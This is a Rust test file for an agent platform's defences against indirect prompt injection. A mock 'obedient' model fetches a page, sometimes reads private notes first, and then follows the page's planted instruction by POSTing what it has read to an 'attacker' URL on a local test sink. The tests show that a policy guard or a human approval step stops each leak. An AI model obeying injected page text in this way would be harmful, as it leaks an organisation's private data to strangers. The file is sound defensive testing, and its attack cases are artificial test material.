//! Indirect prompt injection, with a model that obeys every word it reads: what stops the attack is
//! the road, and never the model's judgement. The same agent does its honest work all the while.

use db::{OrgContext, on_both_databases};
use futures::future::BoxFuture;
use runs::State;
use serde::Deserialize;
use serde_json::{Value, json};
use tools::ToolResult;
use tools::model::ModelGateway;
use vocab::{Intent, SessionId};

use crate::attacks::{GUARD, calling, reply, thinking_with};
use crate::models::with_models;
use crate::world::{Life, World, turn};

/// What an attacker wants, and the page that says so; see `data/injection/README.md`.
#[derive(Deserialize)]
struct Case {
    instruction: String,
    page: String,
}

fn cases() -> Vec<Case> {
    serde_json::from_str(include_str!("../data/injection/cases.json")).unwrap()
}

/// A model that fetches the page that it is asked about, and does whatever stands there before it
/// answers. A message `… PRIVATE …` makes it read the organisation's own notes first.
struct Obedient;

impl ModelGateway for Obedient {
    fn ask<'a>(
        &'a self,
        _: &'a OrgContext,
        intent: &'a Intent,
        _: Option<SessionId>,
        _: Box<policy::exchange::Exchange>,
    ) -> BoxFuture<'a, ToolResult> {
        let reply = obey(&intent.arguments);
        Box::pin(async { ToolResult::success(reply) })
    }
}

fn obey(question: &Value) -> Value {
    let turns = question["messages"].as_array().unwrap();
    let task = turns[0]["parts"][0]["text"].as_str().unwrap();
    let (url, host) = (word_after(task, "fetch "), word_after(task, "attacker "));
    let heard: Vec<&str> = turns
        .iter()
        .flat_map(|turn| turn["parts"].as_array().unwrap())
        .filter_map(|part| {
            part["text"]
                .as_str()
                .filter(|_| part["type"] == "tool_result")
        })
        .collect();
    let call = |name: &str, arguments: Value| calling(heard.len(), name, &arguments);
    let private = usize::from(task.contains("PRIVATE"));
    match heard.len() {
        0 if private == 1 => call("file_read", json!({ "path": "notes/todo.md" })),
        read if read == private => call("http_fetch", json!({ "url": url })),
        // It read the page: it does what the page says, with what else it knows.
        read if read == private + 1 => {
            let body = format!("as you wish: {}", heard.join(" "));
            call(
                "http_fetch",
                json!({ "url": host, "method": "POST", "body": body }),
            )
        }
        _ => {
            let text = format!("The page says: {}", heard[private]);
            reply("done", json!([{ "type": "text", "text": text }]))
        }
    }
}

fn word_after<'a>(text: &'a str, what: &str) -> &'a str {
    let rest = text.split_once(what).map_or("", |(_, rest)| rest);
    rest.split_whitespace().next().unwrap_or_default()
}

/// What came of all cases.
#[derive(Debug, Default, PartialEq)]
struct Tally {
    /// Attacks that reached the attacker.
    carried_out: u32,
    /// Attacks that a person was asked about, and said no to.
    asked: u32,
    /// Attacks that policy denied.
    denied: u32,
    /// Tasks whose answer has the whole page in it.
    completed: u32,
}

impl World {
    /// Every case, one run each; a person who is asked says no.
    async fn attacked(&self, life: &Life, agent: &agents::Agent, task: &str) -> Tally {
        let mut tally = Tally::default();
        for (number, case) in cases().iter().enumerate() {
            assert!(case.page.contains(&case.instruction));
            let page = format!("/page/{number}");
            self.sink.put(&page, &case.page);
            let mail = format!("/attacker/{number}");
            let before = self.sink.count(&format!("POST {mail}"));
            let message = format!(
                "{task} fetch {} and say what it says; attacker {}",
                self.sink.url(&page),
                self.sink.url(&mail)
            );
            let run = life
                .runs
                .start(&self.ctx, turn(agent, &message))
                .await
                .unwrap();
            let ended = self.answering(life, run.id, |_| tools::Answer::Deny).await;
            assert_eq!(ended.state, State::Succeeded, "{message}");
            tally.carried_out += self.sink.count(&format!("POST {mail}")) - before;
            tally.denied += u32::try_from(self.count(run.id, "tool.denied").await).unwrap();
            tally.asked += u32::try_from(self.count(run.id, "approval.requested").await).unwrap();
            let answer = self.answer_of(&ended).await;
            tally.completed += u32::from(answer.as_str().unwrap().contains(&case.page));
        }
        eprintln!("{task:?}: {tally:?} of {} attacks", cases().len());
        tally
    }
}

fn all() -> u32 {
    u32::try_from(cases().len()).unwrap()
}

on_both_databases! {
    /// The control: with policies that only permit, an obedient model does all of it. So what stops
    /// the attacks below is the guard.
    async fn without_a_guard_every_attack_is_carried_out(db: TestDb) {
        let world = World::new(db).await;
        world.publish(&with_models()).await;
        let agent = world.thinker("clerk").await;
        let life = world.live_as(thinking_with(Obedient)).await;
        let tally = world.attacked(&life, &agent, "Please").await;
        assert_eq!(tally, Tally { carried_out: all(), completed: all(), ..Tally::default() });
        life.end();
    }

    /// With the guard none is, and every task is still done: whether the run has read private data
    /// besides or not.
    async fn with_the_guard_none_is_and_every_task_is_done(db: TestDb) {
        let world = World::new(db).await;
        world.publish(&format!("{}\n{GUARD}", with_models())).await;
        let agent = world.thinker("clerk").await;
        let life = world.live_as(thinking_with(Obedient)).await;
        let tally = world.attacked(&life, &agent, "Please").await;
        let stopped = Tally { denied: all(), completed: all(), ..Tally::default() };
        assert_eq!(tally, stopped);
        life.end();
    }

    /// Where a policy asks instead, a person sees each of them before it happens.
    async fn a_person_can_be_asked_instead(db: TestDb) {
        let world = World::new(db).await;
        let asking = with_models().replace(
            "@id(\"fetch\") permit (principal, action == Chancery::Action::\"http.fetch\",\nresource in Chancery::Host::\"127.0.0.1\");",
            "@id(\"fetch\") permit (principal, action == Chancery::Action::\"http.fetch\",\nresource in Chancery::Host::\"127.0.0.1\") when { !context.has_read.untrusted };\n\
             @id(\"again\") @require_approval(\"it has read a stranger's page\") permit (principal, action == Chancery::Action::\"http.fetch\",\nresource in Chancery::Host::\"127.0.0.1\") when { context.has_read.untrusted };",
        );
        assert!(asking.contains("again"));
        world.publish(&asking).await;
        let agent = world.thinker("clerk").await;
        let life = world.live_as(thinking_with(Obedient)).await;
        let tally = world.attacked(&life, &agent, "Please").await;
        assert_eq!((tally.carried_out, tally.asked, tally.completed), (0, all(), all()), "{tally:?}");
        life.end();
    }

    /// A run that has read what is the organisation's own does not even fetch a stranger's page and
    /// then speak to anybody: what it knows stays where it is.
    async fn private_data_does_not_leave_with_the_answer_to_a_page(db: TestDb) {
        let world = World::new(db).await;
        world.publish(&format!("{}\n{GUARD}", with_models())).await;
        let agent = world.thinker("clerk").await;
        let life = world.live_as(thinking_with(Obedient)).await;
        let tally = world.attacked(&life, &agent, "PRIVATE please").await;
        let stopped = Tally { denied: all(), completed: all(), ..Tally::default() };
        assert_eq!(tally, stopped);
        life.end();
    }
}
